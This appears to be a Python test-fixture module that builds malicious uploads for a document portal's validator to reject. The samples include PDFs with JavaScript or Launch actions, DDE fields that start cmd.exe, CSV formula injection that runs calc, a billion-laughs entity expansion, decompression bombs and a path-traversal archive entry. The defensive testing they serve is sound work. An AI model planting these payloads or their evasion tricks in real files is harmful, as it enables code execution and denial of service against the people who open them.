"""Files that the portal refuses, each of a kind of its own, as bytes, or as a function that makes
them where that takes a while."""

import io
import struct
import zlib
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, String
from PIL import Image

from .made import MAIN, OFFICE, TYPES, archive, changed_pdf, docx, epub, hwpx, pdf, picture, xlsx

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
GENERATE = pikepdf.ObjectStreamMode.generate
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))


def opening(**action):
    """Give a PDF that does this when it is opened."""
    return lambda document: document.Root.__setattr__("OpenAction", Dictionary(**action))


def annotated(**fields):
    def change(document):
        fields_of_all = {"Type": Name.Annot, "Rect": [0, 0, 9, 9], **fields}
        annotation = document.make_indirect(Dictionary(**fields_of_all))
        document.pages[0].Annots = Array([annotation])

    return change


def in_names(document):
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=[String("a"), Dictionary(**SCRIPT)])
    )


def on_leaving_a_page(document):
    document.pages[1].AA = Dictionary(C=Dictionary(**SCRIPT))


def with_form(document):
    document.Root.AcroForm = Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))


def attached(document):
    document.attachments["a.exe"] = b"MZ"


def without_pages(document):
    while len(document.pages):
        del document.pages[0]


def replaced_script():
    """Give a PDF whose script an update has put out of sight: a program that mends it sees it."""
    content = changed_pdf(opening(**SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with pikepdf.open(io.BytesIO(content)) as document:
        number = document.Root.objgen[0]
        start = content[content.rindex(b"startxref") :].split()[1]
        pages, size = document.Root.Pages.objgen[0], document.trailer.Size
    update = f"{number} 0 obj\n<</Type/Catalog/Pages {pages} 0 R>>\nendobj\n"
    at = len(content)
    table = f"xref\n{number} 1\n{at:010} 00000 n \ntrailer\n<</Size {size}/Root {number} 0 R"
    end = f"/Prev {start.decode()}>>\nstartxref\n{at + len(update)}\n%%EOF\n"
    return content + (update + table + end).encode()


def object_stream_bomb():
    bomb = zlib.compress(zlib.compress(bytes(400_000_000), level=1))
    return changed_pdf(
        lambda document: document.Root.__setattr__(
            "Bomb",
            document.make_stream(
                bomb,
                Type=Name.ObjStm,
                N=1,
                First=4,
                Filter=Array([Name.FlateDecode, Name.FlateDecode]),
            ),
        ),
        stream_decode_level=pikepdf.StreamDecodeLevel.none,  # nor unpacked and packed anew
    )


def nested_arrays():
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /A " + b"[" * 9_000 + b"]" * 9_000)


def png(width, height, chunks=()):
    """Give a PNG that says it is this large, with next to nothing in it."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    all_chunks = [(b"IHDR", header), *chunks, (b"IDAT", zlib.compress(b"\0")), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in all_chunks
    )


def bomb_of_words():
    return png(60, 40, [(b"zTXt", b"a\0\0" + zlib.compress(bytes(90_000_000)))])


def moving(format):
    others = [Image.new("RGB", (60, 40), colour) for colour in ("red", "blue")]
    return picture(format, save_all=True, append_images=others)


def with_field(field, part="word/header1.xml"):
    return docx({part: f'<w:p xmlns:w="{WORD}">{field}</w:p>'})


def external(kind, target):
    link = f'<Relationship Id="b" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return docx(links=link)


def sized(real, said):
    """Give a DOCX with a part of `real` zeros that says it unpacks to `said`."""
    content = docx({"word/media/a.emf": bytes(real)})
    return content.replace(struct.pack("<I", real), struct.pack("<I", said))


def many_parts():
    with ZipFile(file := io.BytesIO(docx()), "a", ZIP_DEFLATED) as made:
        for number in range(5_001):
            made.writestr(f"word/{number}", b"")
    return file.getvalue()


REPORT, PNG, JPEG = pdf(), picture("PNG"), picture()
HOSTILE = {  # by what it is: kind, file name, content, code of the sentence
    "nothing": ("full text", "a.pdf", b"", "empty"),
    "a program": ("document", "a.exe", b"MZ", "ending"),
    "a page": ("document", "a.html", HTML, "ending"),
    "an archive": ("document", "a.zip", archive({"a": "b"}), "ending"),
    "a file without ending": ("document", "report", REPORT, "ending"),
    "a workbook for a full text": ("full text", "a.xlsx", xlsx(), "ending"),
    "a PDF for a picture": ("picture", "a.pdf", REPORT, "ending"),
    "a page named PDF": ("full text", "a.pdf", HTML, "not pdf"),
    "a page with a PDF inside": ("full text", "a.pdf", HTML + REPORT, "not pdf"),
    "a picture before a PDF": ("document", "a.pdf", PNG + REPORT, "not pdf"),
    "a PDF's half": ("full text", "a.pdf", REPORT[: len(REPORT) // 2], "cut off"),
    "a PDF and an archive": ("document", "a.pdf", REPORT + archive({"a": "b"}), "behind"),
    "an archive ending as a PDF": (
        "document",
        "a.pdf",
        REPORT + archive({"a": "b"}, b"%%EOF"),
        "behind",
    ),
    "a PDF and a page": ("document", "a.pdf", REPORT + HTML, "behind"),
    "a script on opening": ("document", "a.pdf", changed_pdf(opening(**SCRIPT)), "script"),
    "a script in names": ("document", "a.pdf", changed_pdf(in_names), "script"),
    "a script on leaving": ("document", "a.pdf", changed_pdf(on_leaving_a_page), "script"),
    "a script in a note": (
        "document",
        "a.pdf",
        changed_pdf(annotated(Subtype=Name.Link, A=Dictionary(**SCRIPT))),
        "script",
    ),
    "a compressed script": (
        "document",
        "a.pdf",
        changed_pdf(in_names, object_stream_mode=GENERATE),
        "script",
    ),
    "a script by numbers": (
        "document",
        "a.pdf",
        changed_pdf(opening(**SCRIPT)).replace(b"/JavaScript", b"/J#61#76aScript"),
        "script",
    ),
    "a script that was replaced": ("document", "a.pdf", replaced_script(), "script"),
    "a form of XFA": ("document", "a.pdf", changed_pdf(with_form), "script"),
    "a launch": (
        "document",
        "a.pdf",
        changed_pdf(opening(S=Name.Launch, F=String("calc.exe"))),
        "launch",
    ),
    "a compressed launch": (
        "document",
        "a.pdf",
        changed_pdf(opening(S=Name.Launch, F=String("a")), object_stream_mode=GENERATE),
        "launch",
    ),
    "a form that sends": (
        "document",
        "a.pdf",
        changed_pdf(opening(S=Name.SubmitForm, F=String("https://x"))),
        "launch",
    ),
    "imported data": (
        "document",
        "a.pdf",
        changed_pdf(opening(S=Name.ImportData, F=String("a.fdf"))),
        "launch",
    ),
    "an attachment": ("document", "a.pdf", changed_pdf(attached), "attachment"),
    "a compressed attachment": (
        "document",
        "a.pdf",
        changed_pdf(attached, object_stream_mode=GENERATE),
        "attachment",
    ),
    "an attached note": (
        "document",
        "a.pdf",
        changed_pdf(annotated(Subtype=Name.FileAttachment)),
        "attachment",
    ),
    "a film": ("document", "a.pdf", changed_pdf(annotated(Subtype=Name.RichMedia)), "attachment"),
    "a way into an attachment": (
        "document",
        "a.pdf",
        changed_pdf(opening(S=Name.GoToE)),
        "attachment",
    ),
    "a password": (
        "document",
        "a.pdf",
        changed_pdf(len_of_pages := lambda document: None, encryption=Encryption("a", "b")),
        "encrypted",
    ),
    "restrictions": (
        "document",
        "a.pdf",
        changed_pdf(len_of_pages, encryption=Encryption(owner="b", user="")),
        "encrypted",
    ),
    "no pages": ("full text", "a.pdf", changed_pdf(without_pages), "unreadable"),
    "a PDF of noise": (
        "full text",
        "a.pdf",
        b"%PDF-1.7\n" + b"noise" * 99 + b"%%EOF",
        "unreadable",
    ),
    "arrays in arrays": ("full text", "a.pdf", nested_arrays(), "unreadable"),
    "a bomb of objects": ("full text", "a.pdf", object_stream_bomb, "unreadable"),
    "a drawing": ("picture", "a.svg", SVG, "ending"),
    "a drawing named PNG": ("picture", "a.png", SVG, "not a picture"),
    "a page named JPEG": ("picture", "a.jpg", HTML, "not a picture"),
    "a GIF": ("picture", "a.png", picture("GIF"), "not a picture"),
    "a TIFF": ("picture", "a.jpg", picture("TIFF"), "not a picture"),
    "PostScript": ("picture", "a.jpg", picture("EPS"), "not a picture"),
    "a PNG named JPEG": ("picture", "a.jpg", PNG, "wrong ending"),
    "a bomb of pixels": ("picture", "a.png", png(30_000, 30_000), "pixels"),
    "pixels without end": ("picture", "a.png", png(2**31 - 1, 2**31 - 1), "pixels"),
    "a picture of nothing": ("picture", "a.png", png(60, 40), "cut off"),
    "a bomb of words": ("picture", "a.png", bomb_of_words, "unreadable"),
    "a JPEG's beginning": ("picture", "a.jpg", JPEG[:300], "cut off"),
    "a JPEG's most": ("picture", "a.jpg", JPEG[:-9], "cut off"),
    "a PNG's half": ("picture", "a.png", PNG[: len(PNG) // 2], "cut off"),
    "a moving WebP": ("picture", "a.webp", moving("WEBP"), "moving"),
    "a moving PNG": ("picture", "a.png", moving("PNG"), "moving"),
    "an archive named DOCX": ("document", "a.docx", archive({"a": "b"}), "unreadable"),
    "a PDF named DOCX": ("document", "a.docx", REPORT, "wrong ending"),
    "a workbook named DOCX": ("document", "a.docx", xlsx(), "wrong ending"),
    "a DOC": ("document", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99), "old"),
    "macros": ("document", "a.docx", docx({"word/vbaProject.bin": b"x"}), "macros"),
    "macros said": (
        "document",
        "a.docx",
        docx(
            main=MAIN,
            types='<Default ContentType="application/vnd.ms-word.document.macroEnabled"/>',
        ),
        "macros",
    ),
    "a control": ("document", "a.docx", docx({"word/activeX/activeX1.xml": "x"}), "macros"),
    "a packed program": (
        "document",
        "a.docx",
        docx({"word/embeddings/oleObject1.bin": b"x"}),
        "attachment",
    ),
    "a template from elsewhere": (
        "document",
        "a.docx",
        external("attachedTemplate", "https://x/a.dotm"),
        "external",
    ),
    "a picture from elsewhere": (
        "document",
        "a.docx",
        external("image", "\\\\x\\a.png"),
        "external",
    ),
    "a field that starts a program": (
        "document",
        "a.docx",
        with_field("<w:fldSimple w:instr=' DDE cmd a'/>"),
        "external",
    ),
    "a field in pieces that starts a program": (
        "document",
        "a.docx",
        with_field(
            "<w:fldChar w:fldCharType='begin'/><w:instrText> DD</w:instrText>"
            "<w:instrText>EAUTO c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType='end'/>"
        ),
        "external",
    ),
    "a field whose name another spells": (
        "document",
        "a.docx",
        with_field(
            "<w:fldChar w:fldCharType='begin'/><w:instrText> d</w:instrText>"
            "<w:fldChar w:fldCharType='begin'/><w:instrText>QUOTE 68 69</w:instrText>"
            "<w:fldChar w:fldCharType='end'/><w:instrText> c:\\\\cmd.exe</w:instrText>"
            "<w:fldChar w:fldCharType='end'/>"
        ),
        "external",
    ),
    "a workbook's links": (
        "document",
        "a.docx",
        docx({"xl/externalLinks/externalLink1.xml": "x"}),
        "external",
    ),
    "a bomb in a DOCX": ("document", "a.docx", sized(123_457, 600_000_000), "bomb"),
    "more than it says": ("document", "a.docx", sized(123_457, 99), "unreadable"),
    "too many parts": ("document", "a.docx", many_parts, "bomb"),
    "a part that leads out": ("document", "a.docx", docx({"../../a": "x"}), "unreadable"),
    "entities": (
        "document",
        "a.docx",
        docx(
            {
                "[Content_Types].xml": f'<!DOCTYPE a [<!ENTITY l0 "lol">{LAUGHS}]>'
                f'<Types xmlns="{TYPES}">&l9;</Types>'
            }
        ),
        "unreadable",
    ),
    "an EPUB for a document": ("document", "a.epub", epub(), "ending"),
    "an EPUB of another kind": ("e-book", "a.epub", epub(mimetype="a/b"), "wrong ending"),
    "a locked EPUB": ("e-book", "a.epub", epub({"META-INF/encryption.xml": "<a/>"}), "encrypted"),
    "an EPUB with a program": ("e-book", "a.epub", epub({"EPUB/a.js": "a()"}), "macros"),
    "an EPUB with a script": (
        "e-book",
        "a.epub",
        epub({"EPUB/b.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>'}),
        "macros",
    ),
    "an HWPX of another kind": ("document", "a.hwpx", hwpx(mimetype="a/b"), "wrong ending"),
    "an HWPX with a password": (
        "document",
        "a.hwpx",
        hwpx({"META-INF/manifest.xml": "<encryption-data/>"}),
        "encrypted",
    ),
    "an HWPX with a program": ("document", "a.hwpx", hwpx({"BinData/a.ole": b"x"}), "macros"),
    "a table of markup": ("document", "a.csv", b" \n" + HTML, "markup"),
    "a table of another encoding": ("document", "a.csv", "연도,수".encode("cp949"), "not utf-8"),
    "a workbook named CSV": ("document", "a.csv", xlsx(), "wrong ending"),
    "a formula": ("document", "a.csv", b'a,b\n1,"=HYPERLINK(""x"")"\n', "formula"),
    "a command": ("document", "a.csv", b"a,b\n1,+cmd|' /C calc'!A0\n", "formula"),
    "a formula in an old Mac's line": ("document", "a.csv", b"a,b\r=1+1,2\r", "formula"),
    "a formula with a wide sign": ("document", "a.csv", "a,b\n1,＝1+1\n".encode(), "formula"),
    "a formula after a number": ("document", "a.csv", b"a\n-(1+HYPERLINK(A1))\n", "formula"),
    "a formula behind a separator": ("document", "a.csv", b"sep=|\na|=1+1\n", "formula"),
}
